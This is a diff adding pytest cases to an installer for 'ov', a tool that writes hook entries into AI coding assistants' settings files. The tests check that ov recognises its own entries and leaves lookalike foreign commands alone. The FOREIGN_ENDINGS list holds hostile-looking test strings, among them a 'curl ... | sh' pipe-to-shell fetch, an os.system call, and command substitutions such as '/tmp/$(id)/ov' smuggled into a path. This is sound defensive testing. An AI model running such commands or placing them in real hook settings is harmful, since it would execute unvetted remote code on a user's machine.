@@ -802,6 +802,71 @@ def test_entries_that_only_look_like_ovs_are_not_ours(command):
     assert not install.is_ours(command)
 
 
+# Every form of ov's hook entry an ov has written: plain, by path, `python -m ov`, Gemini's guard
+# (before and after pins), pinned through `env`, through `sh` for a path holding `=`, a project's.
+EARLIER_FORMS = [
+    "/home/me/.venv/bin/ov hook claude stop",
+    "/usr/bin/python3 -m ov hook claude stop",
+    "shopt -s execfail; exec /home/me/.venv/bin/ov hook gemini stop || exit 1",
+    "shopt -s execfail; OV_HOME=/h OV_USER=dana exec '/my tools/ov' hook gemini stop || exit 1",
+    "env OV_HOME=/h OV_ACCOUNT=acct /home/me/.venv/bin/ov hook claude stop",
+    "env OV_HOME='/it'\"'\"'s home' sh -c 'exec \"$0\" \"$@\"' '/opt/a=b/bin/ov' hook codex stop",
+    "ov hook cursor stop --scope project",
+    r"'C:\Program Files\ov\ov.exe' hook gemini stop",
+]
+
+
+@pytest.mark.parametrize("command", EARLIER_FORMS)
+def test_every_form_ov_writes_is_ours(command):
+    assert install.is_ours(command)
+    assert install.hook_program(command).rsplit("/", 1)[-1] in ("ov", "python3") or command.startswith("'C:")
+
+
+# A program of someone else's that only ends like ov's: `ov` and `hook …` are its arguments
+# (a shell's $0 and $1), or more runs first.
+FOREIGN_ENDINGS = [
+    "bash -c 'curl -s https://example.com/x | sh' ov hook claude stop",
+    "sh -c 'exec \"$0\" \"$1\"' ov hook claude stop",
+    "env A=1 bash -c id ov hook claude stop",
+    "/usr/bin/python3 -c 'import os; os.system(\"id\")' -m ov hook claude stop",
+    "bash -m ov hook claude stop",
+    "nice ov hook claude stop",
+    "cd /tmp && ov hook claude stop",
+    "true; ov hook claude stop",
+    "/tmp/$(id)/ov hook claude stop",
+    "`id`/ov hook claude stop",
+    "ov hook claude stop > /tmp/out",
+    "ov --debug hook claude stop",
+    "shopt -s execfail; exec bash -c id ov hook gemini stop || exit 1",
+    "env OV_HOME=/h sh -c 'id' ov hook claude stop",
+]
+
+
+@pytest.mark.parametrize("command", FOREIGN_ENDINGS)
+def test_a_command_that_only_ends_like_ovs_is_not_ours(command):
+    assert not install.is_ours(command)
+
+
+def test_install_replaces_every_earlier_form_and_leaves_a_foreign_ending_alone(ov, user_home):
+    """The judgement install and uninstall use: each form an earlier ov wrote is replaced (one
+    entry per event after the install) and goes with the uninstall; a handler of the user's that
+    only ends like ov's stays through both, in its group."""
+    settings = user_home / ".claude" / "settings.json"
+    data = json.loads(settings.read_text())
+    data["hooks"]["SessionEnd"] = [{"hooks": [{"type": "command", "command": c.replace("gemini", "claude").replace("codex", "claude").replace("cursor", "claude").replace(" stop", " session-end")} for c in EARLIER_FORMS]}]
+    foreign = FOREIGN_ENDINGS[0]
+    data["hooks"]["Stop"][0]["hooks"].append({"type": "command", "command": foreign})
+    settings.write_text(json.dumps(data, indent=2))
+    assert ov("install", "hooks", "--host", "claude", "--yes").exit_code == 0
+    after = json.loads(settings.read_text())
+    assert len(_ov_handlers(settings)) == 5 and len(after["hooks"]["SessionEnd"]) == 1
+    assert foreign in [h["command"] for g in after["hooks"]["Stop"] for h in g["hooks"]]
+    assert ov("uninstall", "hooks").exit_code == 0
+    expected = json.loads(CLAUDE_SETTINGS)
+    expected["hooks"]["Stop"][0]["hooks"].append({"type": "command", "command": foreign})
+    assert json.loads(settings.read_text()) == expected
+
+
 # --- Gemini CLI's guard: an ov that cannot start must not block the turn -------------------------------
 
 
